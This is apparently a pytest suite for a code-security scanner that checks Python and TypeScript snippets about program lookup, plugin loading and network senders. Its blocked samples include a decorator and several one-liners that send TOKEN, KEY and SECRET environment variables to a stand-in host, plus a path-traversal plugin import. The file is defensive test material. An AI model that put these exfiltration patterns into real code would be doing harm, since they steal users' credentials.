"""Session 11, helper J2: three shapes from the blind set. A program found with `shutil.which("x") or sys.exit(…)`
is named (the other branch never returns); a plugin loader whose directory is a parameter's default (and whose
listing is filtered, sorted or bound to a name first) loads the project's own code; and a network sender handed on
as a callable (`Thread(target=urlopen, args=(url, data))`, `executor.submit(requests.post, …)`, `partial`) is a send
of the arguments it is handed, so the whole environment sent that way is `exfiltration`."""
from __future__ import annotations

import pytest

from .helpers import assert_allowed, assert_blocked, assert_reviewed

PY, TS = "python", "typescript"

# -- 1. `shutil.which("x") or <a call that never returns>` names x ------------------------------------------------
WHICH_HEAD = "import os\nimport shutil\nimport subprocess\nimport sys\nfrom pathlib import Path\nfrom typing import NoReturn\n\n" \
             "FRONTEND = Path(__file__).parent / 'frontend'\n\n"


@pytest.mark.parametrize("src", [
    # the blind-set shape
    WHICH_HEAD + "def build_frontend() -> None:\n    npm = shutil.which('npm') or sys.exit('npm not found on PATH')\n"
    "    subprocess.run([npm, 'ci'], cwd=FRONTEND, check=True)\n\nif __name__ == '__main__':\n    build_frontend()\n",
    WHICH_HEAD + "npm = shutil.which('npm') or exit('npm not found')\nsubprocess.run([npm, 'ci'], check=True)\n",
    WHICH_HEAD + "npm = shutil.which('npm') or quit(1)\nsubprocess.run([npm, 'run', 'build'], check=True)\n",
    WHICH_HEAD + "npm = shutil.which('npm') or os._exit(3)\nsubprocess.run([npm, 'test'], check=True)\n",
    # a helper of the file declared never to return
    WHICH_HEAD + "def die(msg: str) -> NoReturn:\n    print(msg, file=sys.stderr)\n    raise SystemExit(2)\n\n"
    "def build() -> None:\n    npm = shutil.which('npm') or die('npm not found')\n    subprocess.run([npm, 'ci'], check=True)\n",
    # bound in two functions, each read in its own
    WHICH_HEAD + "def a() -> None:\n    npm = shutil.which('npm') or sys.exit('no npm')\n    subprocess.run([npm, 'ci'], check=True)\n"
    "def b() -> None:\n    npx = shutil.which('npx') or sys.exit(1)\n    subprocess.run([npx, 'tsc', '--noEmit'], check=True)\n",
    # a check after the lookup
    WHICH_HEAD + "def build() -> None:\n    npm = shutil.which('npm')\n    if npm is None:\n        sys.exit('npm not found')\n"
    "    subprocess.run([npm, 'ci'], check=True)\n",
    WHICH_HEAD + "def build() -> None:\n    npm = shutil.which('npm')\n    if not npm:\n        raise RuntimeError('npm not found')\n"
    "    subprocess.run([npm, 'ci'], check=True)\n",
])
def test_program_found_with_which_or_exit_is_named(src: str) -> None:
    assert_allowed(src, PY)


def test_which_or_exit_of_a_shell_still_runs_its_code() -> None:
    assert_blocked(WHICH_HEAD + "def f(cmd):\n    b = shutil.which('bash') or sys.exit('no bash')\n"
                   "    subprocess.run([b, '-c', cmd], check=True)\n", "py-shell-exec", PY)


@pytest.mark.parametrize("src", [
    # the left side is not a program's name
    WHICH_HEAD + "tool = os.environ.get('TOOL') or sys.exit('set TOOL')\nsubprocess.run([tool, 'ci'], check=True)\n",
    # a fallback that returns (its value is run)
    WHICH_HEAD + "def fallback(m):\n    return os.environ['X']\nnpm = shutil.which('npm') or fallback('x')\n"
    "subprocess.run([npm, 'ci'], check=True)\n",
])
def test_which_with_an_unknown_side_stays_reviewed(src: str) -> None:
    assert_reviewed(src, "py-subprocess-dynamic", PY)


# -- 2. a plugin loader over a parameter's default directory ------------------------------------------------------
TS_HEAD = ('import { readdir } from "node:fs/promises";\nimport os from "node:os";\nimport path from "node:path";\n'
           'import { pathToFileURL } from "node:url";\n\nexport interface Plugin { name: string; setup(): void }\n\n')
LOAD_TS = ('export async function loadPlugins(dir = path.resolve("plugins")): Promise<Plugin[]> {\n'
           '  const files = (await readdir(dir)).filter((f) => f.endsWith(".js") || f.endsWith(".mjs"));\n'
           '  const out: Plugin[] = [];\n  for (const f of files.sort()) {\n'
           '    const mod = await import(pathToFileURL(path.join(dir, f)).href);\n    out.push(mod.default as Plugin);\n'
           '  }\n  return out;\n}\n\n')


@pytest.mark.parametrize("src", [
    TS_HEAD + LOAD_TS + "const plugins = await loadPlugins();\nfor (const p of plugins) p.setup();\n",
    TS_HEAD + LOAD_TS + "await loadPlugins();\nawait loadPlugins(path.resolve(\"plugins\"));\n",
    # an arrow function bound to a name, a default found from __dirname, the listing narrowed inline
    TS_HEAD + 'const loadPlugins = async (dir = path.join(__dirname, "plugins")) => {\n'
    '  for (const f of (await readdir(dir)).filter((f) => f.endsWith(".js")).sort()) {\n'
    '    await import(path.join(dir, f));\n  }\n};\nloadPlugins().catch(console.error);\n',
    # a method called through this
    TS_HEAD + 'class Loader {\n  async load(dir = path.resolve("plugins")) {\n'
    '    const files = (await readdir(dir)).filter((f) => f.endsWith(".js"));\n'
    '    for (const f of files) await import(pathToFileURL(path.join(dir, f)).href);\n  }\n'
    '  async start() { await this.load(); }\n}\n',
    # a literal relative default, the listing bound to a name and sorted with toSorted
    TS_HEAD + 'async function loadPlugins(dir = "plugins") {\n  const names = await readdir(dir);\n'
    '  for (const f of names.toSorted()) await import(pathToFileURL(path.join(dir, f)).href);\n}\nawait loadPlugins();\n',
])
def test_typescript_plugin_loader_over_a_default_project_directory_is_allowed(src: str) -> None:
    assert_allowed(src, TS)


@pytest.mark.parametrize("src", [
    TS_HEAD + LOAD_TS + "await loadPlugins(os.homedir());\n",
    TS_HEAD + LOAD_TS + "await loadPlugins(process.argv[2]);\n",
    TS_HEAD + LOAD_TS + 'await loadPlugins();\nawait loadPlugins("/tmp/plugins");\n',
    TS_HEAD + LOAD_TS + "await loadPlugins();\nawait loadPlugins(process.env.PLUGIN_DIR);\n",
    # the default is not a project directory
    TS_HEAD + 'async function loadPlugins(dir = process.env.PLUGINS ?? "plugins") {\n'
    '  for (const f of await readdir(dir)) await import(path.join(dir, f));\n}\nawait loadPlugins();\n',
    TS_HEAD + 'async function loadPlugins(dir = path.join(os.homedir(), ".app", "plugins")) {\n'
    '  for (const f of await readdir(dir)) await import(path.join(dir, f));\n}\nawait loadPlugins();\n',
    # the parameter is given another value inside
    TS_HEAD + 'async function loadPlugins(dir = "plugins") {\n  dir = process.env.PLUGIN_DIR;\n'
    '  for (const f of await readdir(dir)) await import(path.join(dir, f));\n}\nawait loadPlugins();\n',
    # the listing is changed in place: no longer only what the directory holds
    TS_HEAD + 'async function loadPlugins(dir = "plugins") {\n  const files = await readdir(dir);\n'
    '  files.push("../../../tmp/evil.js");\n  for (const f of files) await import(path.join(dir, f));\n}\n'
    'await loadPlugins();\n',
    # handed on as a value: called with anything
    TS_HEAD + LOAD_TS + "[os.homedir()].map(loadPlugins);\n",
])
def test_typescript_plugin_loader_given_another_directory_stays_blocked(src: str) -> None:
    assert_blocked(src, "js-dynamic-require", TS)


PY_HEAD = "import importlib\nimport importlib.util\nimport os\nimport sys\nfrom pathlib import Path\n\n"


@pytest.mark.parametrize("src", [
    PY_HEAD + "def load_plugins(d=Path('plugins')):\n    out = []\n    for f in sorted(d.glob('*.py')):\n"
    "        spec = importlib.util.spec_from_file_location(f.stem, f)\n        mod = importlib.util.module_from_spec(spec)\n"
    "        spec.loader.exec_module(mod)\n        out.append(mod)\n    return out\n\nload_plugins()\n",
    PY_HEAD + "def load_plugins(d='plugins'):\n    for f in sorted(os.listdir(d)):\n        if f.endswith('.py'):\n"
    "            importlib.import_module(f'plugins.{f[:-3]}')\n\nload_plugins()\n",
    # a filtering comprehension, bound to a name and sorted
    PY_HEAD + "def load_plugins(d='plugins'):\n    names = [f[:-3] for f in os.listdir(d) if f.endswith('.py')]\n"
    "    return [importlib.import_module(f'plugins.{n}') for n in sorted(names)]\n\nload_plugins()\n",
    PY_HEAD + "HERE = Path(__file__).parent\n\ndef load_plugins():\n"
    "    files = [f for f in os.listdir(HERE / 'plugins') if f.endswith('.py')]\n    for f in sorted(files):\n"
    "        importlib.import_module(f'plugins.{f[:-3]}')\n\nload_plugins()\n",
    PY_HEAD + "def load_plugins(d=Path(__file__).parent / 'plugins'):\n"
    "    for p in filter(lambda p: not p.name.startswith('_'), d.glob('*.py')):\n"
    "        importlib.import_module(f'app.plugins.{p.stem}')\n\nload_plugins()\n",
    PY_HEAD + "def load_plugins(d='plugins'):\n    for f in sorted(os.listdir(d)):\n        if f.endswith('.py'):\n"
    "            spec = importlib.util.spec_from_file_location(f[:-3], os.path.join(d, f))\n"
    "            spec.loader.exec_module(importlib.util.module_from_spec(spec))\n\nload_plugins()\n",
])
def test_python_plugin_loader_over_a_default_project_directory_is_allowed(src: str) -> None:
    assert_allowed(src, PY)


@pytest.mark.parametrize("src,rule", [
    (PY_HEAD + "def load_plugins(d=Path('plugins')):\n    for f in sorted(d.glob('*.py')):\n"
     "        spec = importlib.util.spec_from_file_location(f.stem, f)\n"
     "        spec.loader.exec_module(importlib.util.module_from_spec(spec))\n\n"
     "load_plugins(Path.home() / '.config' / 'app' / 'plugins')\n", "py-dynamic-code"),
    (PY_HEAD + "def load_plugins(d=Path('plugins')):\n    for f in sorted(d.glob('*.py')):\n"
     "        spec = importlib.util.spec_from_file_location(f.stem, f)\n"
     "        spec.loader.exec_module(importlib.util.module_from_spec(spec))\n\n"
     "load_plugins()\nload_plugins(Path(sys.argv[1]))\n", "py-dynamic-code"),
    (PY_HEAD + "def load_plugins(d='plugins'):\n    names = [f[:-3] for f in os.listdir(d) if f.endswith('.py')]\n"
     "    names.append(os.environ['EXTRA'])\n    return [importlib.import_module(n) for n in names]\n\nload_plugins()\n",
     "py-dynamic-import"),
    (PY_HEAD + "def load_plugins(d='plugins'):\n    for f in os.listdir(d):\n        importlib.import_module(f[:-3])\n\n"
     "load_plugins(sys.argv[1])\n", "py-dynamic-import"),
    (PY_HEAD + "def load(f):\n    spec = importlib.util.spec_from_file_location('m', f)\n"
     "    spec.loader.exec_module(importlib.util.module_from_spec(spec))\n\nload(sys.argv[1])\n", "py-dynamic-code"),
])
def test_python_plugin_loader_given_another_directory_stays_blocked(src: str, rule: str) -> None:
    assert_blocked(src, rule, PY)


# -- 3. a sender handed on as a callable sends its arguments -----------------------------------------------------
SEND_HEAD = ("import asyncio\nimport functools\nimport json\nimport os\nimport threading\nimport urllib.request\n"
             "import requests\nfrom concurrent.futures import ThreadPoolExecutor\nfrom functools import partial\n"
             "from urllib.request import urlopen\n\nURL = 'https://trace.apm-relay.example/ingest'\n"
             "payload = json.dumps({'env': {k: v for k, v in os.environ.items() if 'TOKEN' in k}}).encode()\n")
DECORATOR = (
    "import functools\nimport json\nimport os\nimport threading\nimport urllib.request\n\n\ndef traced(fn):\n"
    "    @functools.wraps(fn)\n    def wrapper(*args, **kwargs):\n"
    "        payload = json.dumps({\"fn\": fn.__name__, \"env\": {k: v for k, v in os.environ.items()\n"
    "                              if any(t in k for t in (\"TOKEN\", \"KEY\", \"SECRET\"))}}).encode()\n"
    "        threading.Thread(target=urllib.request.urlopen, args=(\"https://trace.apm-relay.example/ingest\", payload)).start()\n"
    "        return fn(*args, **kwargs)\n    return wrapper\n\n\n@traced\ndef work():\n    return 1\n")


@pytest.mark.parametrize("src", [
    DECORATOR,
    SEND_HEAD + "threading.Thread(target=urllib.request.urlopen, args=(URL, payload)).start()\n",
    SEND_HEAD + "threading.Thread(target=urlopen, args=(URL, payload), daemon=True).start()\n",
    SEND_HEAD + "ThreadPoolExecutor().submit(requests.post, URL, data=payload)\n",
    SEND_HEAD + "with ThreadPoolExecutor() as ex:\n    ex.submit(requests.post, URL, json=payload)\n",
    SEND_HEAD + "asyncio.run(asyncio.to_thread(urlopen, URL, payload))\n",
    SEND_HEAD + "asyncio.get_event_loop().run_in_executor(None, requests.post, URL, payload)\n",
    SEND_HEAD + "functools.partial(requests.post, URL)(data=payload)\n",
    SEND_HEAD + "send = partial(requests.post, URL)\nsend(data=payload)\n",
    SEND_HEAD + "threading.Thread(target=requests.post, args=(URL,), kwargs={'json': dict(os.environ)}).start()\n",
    # the sender under another name
    SEND_HEAD + "post = requests.post\nthreading.Thread(target=post, args=(URL, payload)).start()\n",
    SEND_HEAD + "import urllib.request as ur\nthreading.Thread(target=ur.urlopen, args=(URL, payload)).start()\n",
    SEND_HEAD + "s = requests.Session()\nthreading.Thread(target=s.post, args=(URL,), kwargs={'data': payload}).start()\n",
])
def test_sender_handed_on_with_the_environment_is_exfiltration(src: str) -> None:
    assert_blocked(src, "exfiltration", PY)


@pytest.mark.parametrize("src", [
    "import threading\nfrom urllib.request import urlopen\n"
    "threading.Thread(target=urlopen, args=('https://api.example.com/health',)).start()\n",
    "import json, threading, urllib.request\nthreading.Thread(target=urllib.request.urlopen, args=("
    "'https://api.example.com/ingest', json.dumps({'ok': 1}).encode())).start()\n",
    "import os, requests\nfrom concurrent.futures import ThreadPoolExecutor\n"
    "ThreadPoolExecutor().submit(requests.post, 'https://api.example.com/x', json={'user': os.environ.get('USER')})\n",
    "import functools, requests\nsend = functools.partial(requests.post, 'https://api.example.com/x', timeout=5)\n"
    "send(json={'status': 'ok'})\n",
    "import os, threading\nthreading.Thread(target=print, args=(dict(os.environ),)).start()\n",
    # a decorator's wrapper that reports timing only
    DECORATOR.replace('"env": {k: v for k, v in os.environ.items()\n                              if any(t in k for t in '
                      '("TOKEN", "KEY", "SECRET"))}', '"ms": 3'),
])
def test_sender_handed_on_without_the_environment_is_allowed(src: str) -> None:
    assert_allowed(src, PY)
